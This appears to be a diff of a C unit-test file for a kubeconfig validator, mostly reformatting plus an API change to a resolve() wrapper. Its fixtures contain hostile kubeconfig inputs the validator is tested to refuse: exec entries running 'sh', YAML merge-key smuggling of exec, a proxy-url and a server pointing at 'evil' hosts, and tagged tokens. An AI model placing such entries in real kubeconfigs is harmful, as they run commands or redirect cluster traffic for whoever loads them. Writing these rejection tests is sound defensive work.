       {"<<: {users: [{name: u1, user: {exec: {command: sh}}}]}\n" KUBE_CLUSTERS KUBE_CONTEXTS
-       KUBE_CURRENT,
+           KUBE_CURRENT,
        "<<: YAML merge keys"},
       {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    <<: {proxy-url: http://evil:3128}\n"),
        "clusters[0].cluster.<<"},
       {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
-       "    user: u1\n    <<: {namespace: kube-system}\n" KUBE_CURRENT,
+                                "    user: u1\n    <<: {namespace: kube-system}\n" KUBE_CURRENT,
        "contexts[0].context.<<"},
       /* nested merges, and merges inside the fields nobody interprets */
       {KUBE_WITH_USER("    <<: {<<: {exec: {command: sh}}}\n"), "users[0].user.<<"},
@@ -1203,7 +1290,8 @@ static void test_kube_anchors_aliases_tags(void **state)
        "users[0].user: YAML anchors and aliases"},
       {KUBE_WITH_USER("    as-groups: [a, *g]\n"), "users[0].user.as-groups[1]: YAML anchors"},
       {KUBE_WITH_USER("    token: !foo t\n"), "users[0].user.token: YAML tags"},
-      {KUBE_WITH_USER("    token: !<tag:example.com,2024:t> t\n"), "users[0].user.token: YAML tags"},
+      {KUBE_WITH_USER("    token: !<tag:example.com,2024:t> t\n"),
+       "users[0].user.token: YAML tags"},
       {KUBE_WITH_USER("    token: ! t\n"), "users[0].user.token: YAML tags"},
       /* !!binary would hand kubectl the decoded bytes, not what we checked */
       {KUBE_WITH_USER("    token: !!binary c2Vrcml0\n"), "users[0].user.token: YAML tags"},
@@ -1249,7 +1337,7 @@ static void test_kube_refused_fields(void **state)
       {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    Server: https://evil\n"),
        "clusters[0].cluster.Server is not"},
       {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
-       "    user: u1\n    exec: sh\n" KUBE_CURRENT,
+                                "    user: u1\n    exec: sh\n" KUBE_CURRENT,
        "contexts[0].context.exec is not"},
       {KUBE_CLUSTERS "users:\n- name: u1\n  exec: {command: sh}\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].exec is not"},
@@ -1286,8 +1374,8 @@ static void test_kube_refused_fields(void **state)
 static void test_kube_server_rules(void **state)
 {
   static const char *const ok[] = {
-      "https://c1:6443",        "https://10.0.0.1",       "https://[2001:db8::1]:6443/k8s",
-      "http://127.0.0.1:8080",  "http://127.1.2.3",       "http://[::1]:8080/",
+      "https://c1:6443",           "https://10.0.0.1",         "https://[2001:db8::1]:6443/k8s",
+      "http://127.0.0.1:8080",     "http://127.1.2.3",         "http://[::1]:8080/",
       "http://localhost:8080/api", "http://[0:0:0:0:0:0:0:1]",
   };
   static const struct kube_case cases[] = {
@@ -1322,23 +1410,26 @@ static void test_kube_server_rules(void **state)
       {KUBE_WITH_CLUSTER("    insecure-skip-tls-verify: on\n    server: https://10.0.0.1\n"),
        "insecure-skip-tls-verify"},
       /* every cluster, not only the current context's */
-      {KUBE_CLUSTERS "- name: c2\n  cluster:\n    server: http://evil.example.com\n" KUBE_USERS
-       KUBE_CONTEXTS KUBE_CURRENT,
+      {KUBE_CLUSTERS
+       "- name: c2\n  cluster:\n    server: http://evil.example.com\n" KUBE_USERS KUBE_CONTEXTS
+           KUBE_CURRENT,
        "clusters[1].cluster.server: plain http"},
   };
   char yaml[512];
 
   (void)state;
   for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
-    snprintf(yaml, sizeof yaml, "%s%s%s", "clusters:\n- name: c1\n  cluster:\n    server: ",
-             ok[i], "\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT);
+    snprintf(yaml, sizeof yaml, "%s%s%s", "clusters:\n- name: c1\n  cluster:\n    server: ", ok[i],
+             "\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT);
     kube_text_ok(yaml);
   }
   kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
-  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: false\n"));
+  kube_text_ok(
+      KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: false\n"));
   kube_text_ok(KUBE_WITH_CLUSTER("    server: https://127.0.0.1:6443\n"
                                  "    insecure-skip-tls-verify: true\n"));
-  kube_text_ok(KUBE_WITH_CLUSTER("    server: http://localhost\n    insecure-skip-tls-verify: true\n"));
+  kube_text_ok(
+      KUBE_WITH_CLUSTER("    server: http://localhost\n    insecure-skip-tls-verify: true\n"));
   kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1\n    insecure-skip-tls-verify: ~\n"));
 }
 
@@ -1348,32 +1439,34 @@ static void test_kube_server_rules(void **state)
 static void test_kube_allowed_fields(void **state)
 {
   (void)state;
-  kube_text_ok("apiVersion: v1\nkind: Config\npreferences: {colors: true, extensions: []}\n"
-               "extensions:\n- name: tool\n  extension: {any: [thing, {x: 1}]}\n"
-               "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
-               "    certificate-authority-data: LS0tLS1CRUdJTg==\n"
-               "    tls-server-name: api.c1\n    disable-compression: true\n"
-               "    insecure-skip-tls-verify: false\n"
-               "    extensions:\n    - name: cluster_info\n      extension:\n"
-               "        provider: minikube.sigs.k8s.io\n        version: v1.32.0\n"
-               "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
-               "    client-certificate-data: LS0tLS1CRUdJTg==\n"
-               "    client-key-data: LS0tLS1CRUdJTg==\n"
-               "    as: system:serviceaccount:ns:sa\n    as-uid: \"1234\"\n"
-               "    as-groups: [system:authenticated, scanners]\n"
-               "    as-user-extra: {scopes: [view, edit], reason: [~]}\n"
-               "    extensions: [{name: e, extension: null}]\n"
-               "- name: u2\n  user:\n    username: admin\n    password: \"p@ss: word # not a comment\"\n"
-               "- name: u3\n  user: ~\n"
-               "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
-               "    namespace: twistlock\n    extensions:\n    - name: context_info\n"
-               "      extension: {last-update: 'Mon, 01 Jan 2024'}\n"
-               "current-context: x1\n");
-  kube_text_ok("{\"apiVersion\":\"v1\",\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":"
-               "\"https://j\",\"certificate-authority-data\":\"LS0t\"}}],\"users\":[{\"name\":"
-               "\"u1\",\"user\":{\"username\":\"a\",\"password\":\"b\"}}],\"contexts\":[{\"name\":"
-               "\"x1\",\"context\":{\"cluster\":\"c1\",\"user\":\"u1\"}}],\"current-context\":\"x1\","
-               "\"preferences\":{}}");
+  kube_text_ok(
+      "apiVersion: v1\nkind: Config\npreferences: {colors: true, extensions: []}\n"
+      "extensions:\n- name: tool\n  extension: {any: [thing, {x: 1}]}\n"
+      "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
+      "    certificate-authority-data: LS0tLS1CRUdJTg==\n"
+      "    tls-server-name: api.c1\n    disable-compression: true\n"
+      "    insecure-skip-tls-verify: false\n"
+      "    extensions:\n    - name: cluster_info\n      extension:\n"
+      "        provider: minikube.sigs.k8s.io\n        version: v1.32.0\n"
+      "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
+      "    client-certificate-data: LS0tLS1CRUdJTg==\n"
+      "    client-key-data: LS0tLS1CRUdJTg==\n"
+      "    as: system:serviceaccount:ns:sa\n    as-uid: \"1234\"\n"
+      "    as-groups: [system:authenticated, scanners]\n"
+      "    as-user-extra: {scopes: [view, edit], reason: [~]}\n"
+      "    extensions: [{name: e, extension: null}]\n"
+      "- name: u2\n  user:\n    username: admin\n    password: \"p@ss: word # not a comment\"\n"
+      "- name: u3\n  user: ~\n"
+      "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
+      "    namespace: twistlock\n    extensions:\n    - name: context_info\n"
+      "      extension: {last-update: 'Mon, 01 Jan 2024'}\n"
+      "current-context: x1\n");
+  kube_text_ok(
+      "{\"apiVersion\":\"v1\",\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":"
+      "\"https://j\",\"certificate-authority-data\":\"LS0t\"}}],\"users\":[{\"name\":"
+      "\"u1\",\"user\":{\"username\":\"a\",\"password\":\"b\"}}],\"contexts\":[{\"name\":"
+      "\"x1\",\"context\":{\"cluster\":\"c1\",\"user\":\"u1\"}}],\"current-context\":\"x1\","
+      "\"preferences\":{}}");
 }
 
 static void test_kube_malformed(void **state)
@@ -1396,8 +1489,8 @@ static void test_kube_malformed(void **state)
   for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
     kube_text_fails(bad[i], "kubeconfig:");
   /* Through the provider too: secret.plain is named, no crash, no output. */
-  expect_fail("kubeconfig", body_with("kubeconfig", "secret", "clusters: [", NULL),
-              CS_ERR_INVALID, "secret.plain");
+  expect_fail("kubeconfig", body_with("kubeconfig", "secret", "clusters: [", NULL), CS_ERR_INVALID,
+              "secret.plain");
   expect_fail("kubeconfig", json("{}"), CS_ERR_MISSING, "secret.plain");
   expect_fail("kubeconfig", json("{\"secret\":{\"plain\":1}}"), CS_ERR_INVALID, "secret.plain");
   expect_fail("kubeconfig", json("{\"secret\":\"apiVersion: v1\"}"), CS_ERR_INVALID, "secret");
@@ -1502,9 +1595,9 @@ static void test_kube_resolve_corrupt(void **state)
   cJSON *out = NULL;
 
   (void)state;
-  assert_int_equal(prov("kubeconfig")->resolve(NULL, nul, sizeof nul - 1, NULL, &out),
+  assert_int_equal(resolve(prov("kubeconfig"), NULL, nul, sizeof nul - 1, NULL, &out),
                    CS_ERR_CRYPTO);
-  assert_int_equal(prov("kubeconfig")->resolve(NULL, "", 0, NULL, &out), CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("kubeconfig"), NULL, "", 0, NULL, &out), CS_ERR_CRYPTO);
   assert_null(out);
 }
 
@@ -1542,11 +1635,11 @@ static void test_resolve_reads_only_len(void **state)
   for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
     meta = json(cases[i].meta);
     p = unterminated(cases[i].payload, &len);
-    assert_int_equal(prov(cases[i].type)->resolve(meta, p, len, NULL, &out), CS_OK);
+    assert_int_equal(resolve(prov(cases[i].type), meta, p, len, NULL, &out), CS_OK);
     assert_str_member(out, cases[i].member, cases[i].payload);
     /* a shorter len is honoured, not the bytes after it */
     cJSON_Delete(out);
-    assert_int_equal(prov(cases[i].type)->resolve(meta, p, len - 1, NULL, &out), CS_OK);
+    assert_int_equal(resolve(prov(cases[i].type), meta, p, len - 1, NULL, &out), CS_OK);
     assert_int_equal(strlen(cJSON_GetObjectItem(out, cases[i].member)->valuestring), len - 1);
     cJSON_Delete(out);
     out = NULL;
@@ -1555,7 +1648,7 @@ static void test_resolve_reads_only_len(void **state)
   }
   meta = json("{}");
   p = unterminated(sk_text, &len);
-  assert_int_equal(prov("azure")->resolve(meta, p, len, NULL, &out), CS_OK);
+  assert_int_equal(resolve(prov("azure"), meta, p, len, NULL, &out), CS_OK);
   assert_true(cJSON_IsObject(cJSON_GetObjectItem(out, "serviceKey")));
   cJSON_Delete(out);
   free(p);
@@ -1585,6 +1678,7 @@ int main(void)
 {
   const struct CMUnitTest tests[] = {
       cmocka_unit_test(test_registry),
+      cmocka_unit_test(test_resolve_opts_check),
       cmocka_unit_test(test_result_free),
       cmocka_unit_test(test_aws_static_keys),
       cmocka_unit_test(test_aws_role_options),
